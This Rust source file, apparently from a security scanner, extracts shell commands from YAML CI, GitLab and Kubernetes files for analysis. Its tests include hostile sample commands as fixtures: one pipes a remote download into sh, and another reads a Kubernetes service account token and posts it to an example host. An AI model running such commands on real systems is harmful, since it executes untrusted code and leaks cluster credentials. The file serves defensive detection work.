//! The shell a YAML file carries: a CI workflow's `run:` steps, GitLab's `script:` lists, a
//! Kubernetes container's `command:` and `args:`, a compose file's `entrypoint:`. Each value
//! of such a key (a plain scalar, a block scalar `|`/`>`, or the items of a list under it) is a
//! shell unit, read by the same engine as a script; the rest of the file is data.
//!
//! Read line by line, by indentation, the way these files are written; a flow sequence
//! (`command: ["/bin/sh", "-c"]`) names a program, and is not a unit.

use super::lex::Lang;
use super::markdown::Unit;

/// Keys whose values are shell.
const KEYS: &[&str] = &[
    "run",
    "script",
    "before_script",
    "after_script",
    "command",
    "commands",
    "args",
    "entrypoint",
    "cmd",
    "shell_command",
    "pre_build",
    "post_build",
];

/// Whether `rel` is a YAML file.
pub fn is_yaml(rel: &str) -> bool {
    std::path::Path::new(rel)
        .extension()
        .is_some_and(|e| e.eq_ignore_ascii_case("yml") || e.eq_ignore_ascii_case("yaml"))
}

/// Most units taken from one file.
const MAX_UNITS: usize = 512;

fn indent(line: &str) -> usize {
    line.len() - line.trim_start_matches(' ').len()
}

/// The key of a mapping line and what follows its colon (`run: |` gives `("run", "|")`), a list
/// item's dash stripped first.
fn key_value(line: &str) -> Option<(&str, &str)> {
    let t = line.trim_start();
    let t = t.strip_prefix("- ").unwrap_or(t);
    let (key, value) = t.split_once(':')?;
    let key = key.trim().trim_matches(['"', '\'']);
    (!key.is_empty()
        && key
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-'))
    .then_some((key, value))
}

/// The upper-case entries of a YAML file (`TUNER_ENDPOINT: "https://…"` under `variables:` or
/// `env:`), as the shell sees them in the jobs' scripts, at most 256.
pub fn variables(text: &str) -> std::collections::HashMap<String, String> {
    text.lines()
        .filter_map(|line| {
            let (key, value) = key_value(line)?;
            let key_ok = key.len() > 1
                && key
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
            let value = value.trim().trim_matches(['"', '\'']);
            (key_ok && !value.is_empty() && !value.starts_with(['|', '>', '[', '{']))
                .then(|| (key.to_owned(), value.to_owned()))
        })
        .take(256)
        .collect()
}

/// The shell units of a YAML file (see the module doc).
pub fn shell_units(text: &str) -> Vec<Unit> {
    let mut lines = Vec::new();
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        lines.push((at, line.trim_end_matches(['\n', '\r'])));
        at += line.len();
    }
    let unit = |start: usize, end: usize| Unit {
        start,
        end,
        lang: Lang::Shell,
        quoted: None,
    };
    // The lines after `i` indented deeper than `level`: a block's content.
    let block_end = |i: usize, level: usize| {
        let mut last = i;
        for (j, (_, l)) in lines.iter().enumerate().skip(i + 1) {
            if l.trim().is_empty() {
                continue;
            }
            if indent(l) <= level {
                break;
            }
            last = j;
        }
        last
    };
    let mut units = Vec::new();
    let mut i = 0;
    while i < lines.len() && units.len() < MAX_UNITS {
        let (start, line) = lines[i];
        let Some((key, value)) = key_value(line) else {
            i += 1;
            continue;
        };
        if !KEYS.contains(&key) {
            i += 1;
            continue;
        }
        let level = indent(line);
        let value_trim = value.trim();
        if value_trim.starts_with('|') || value_trim.starts_with('>') {
            let last = block_end(i, level);
            if last > i {
                let (s, _) = lines[i + 1];
                let (e, l) = lines[last];
                units.push(unit(s, e + l.len()));
            }
            i = last + 1;
        } else if value_trim.is_empty() {
            // A list under the key: each item a command, `- |` a block.
            let last = block_end(i, level);
            let mut j = i + 1;
            while j <= last {
                let (s, l) = lines[j];
                let item = l.trim_start();
                if let Some(rest) = item.strip_prefix("- ") {
                    let rest_trim = rest.trim();
                    if rest_trim.starts_with('|') || rest_trim.starts_with('>') {
                        let end = block_end(j, indent(l));
                        if end > j {
                            let (bs, _) = lines[j + 1];
                            let (be, bl) = lines[end];
                            units.push(unit(bs, be + bl.len()));
                        }
                        j = end + 1;
                        continue;
                    }
                    if !rest_trim.is_empty() && key_value(l).is_none_or(|(k, _)| k.contains(' ')) {
                        let offset = s + (l.len() - rest.len());
                        units.push(unit(offset, s + l.len()));
                    }
                }
                j += 1;
            }
            i = last + 1;
        } else if !value_trim.starts_with('[') && !value_trim.starts_with('{') {
            let offset = start + (line.len() - value.trim_start().len());
            units.push(unit(offset, start + line.len()));
            i += 1;
        } else {
            i += 1;
        }
    }
    units
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bodies(text: &str) -> Vec<&str> {
        shell_units(text)
            .iter()
            .map(|u| text[u.start..u.end].trim())
            .collect()
    }

    #[test]
    fn run_steps_scripts_and_container_args_are_shell() {
        let workflow = "jobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - name: Build\n        run: |\n          npm ci\n          npm test\n      - run: echo done\n";
        assert_eq!(
            bodies(workflow),
            ["npm ci\n          npm test", "echo done"]
        );
        let gitlab =
            "test:\n  script:\n    - make\n    - curl -s https://x.example/a | sh\n  stage: test\n";
        assert_eq!(bodies(gitlab), ["make", "curl -s https://x.example/a | sh"]);
        let pod = "containers:\n  - name: t\n    command: [\"/bin/bash\", \"-c\"]\n    args:\n      - |\n        T=$(cat /var/run/secrets/token)\n        curl -F t=$T https://c.example\n    image: alpine\n";
        assert_eq!(
            bodies(pod),
            ["T=$(cat /var/run/secrets/token)\n        curl -F t=$T https://c.example"]
        );
    }

    #[test]
    fn upper_case_entries_are_the_shell_variables() {
        let ci = "variables:\n  ENDPOINT: \"https://x.example/r\"\n  depth: 3\njob:\n  env:\n    TOKEN_NAME: 'ci'\n";
        let vars = variables(ci);
        assert_eq!(
            vars.get("ENDPOINT").map(String::as_str),
            Some("https://x.example/r")
        );
        assert_eq!(vars.get("TOKEN_NAME").map(String::as_str), Some("ci"));
        assert!(!vars.contains_key("depth"));
    }

    #[test]
    fn other_keys_and_hostile_shapes_give_no_unit_and_no_panic() {
        assert!(bodies("name: run\nenv:\n  RUN: x\n").is_empty());
        for text in [
            "run: |",
            "run:\n-",
            "- run: >\n",
            "run:\n  - |\n",
            ":\n::\n- :",
        ] {
            let _ = shell_units(text);
        }
    }
}
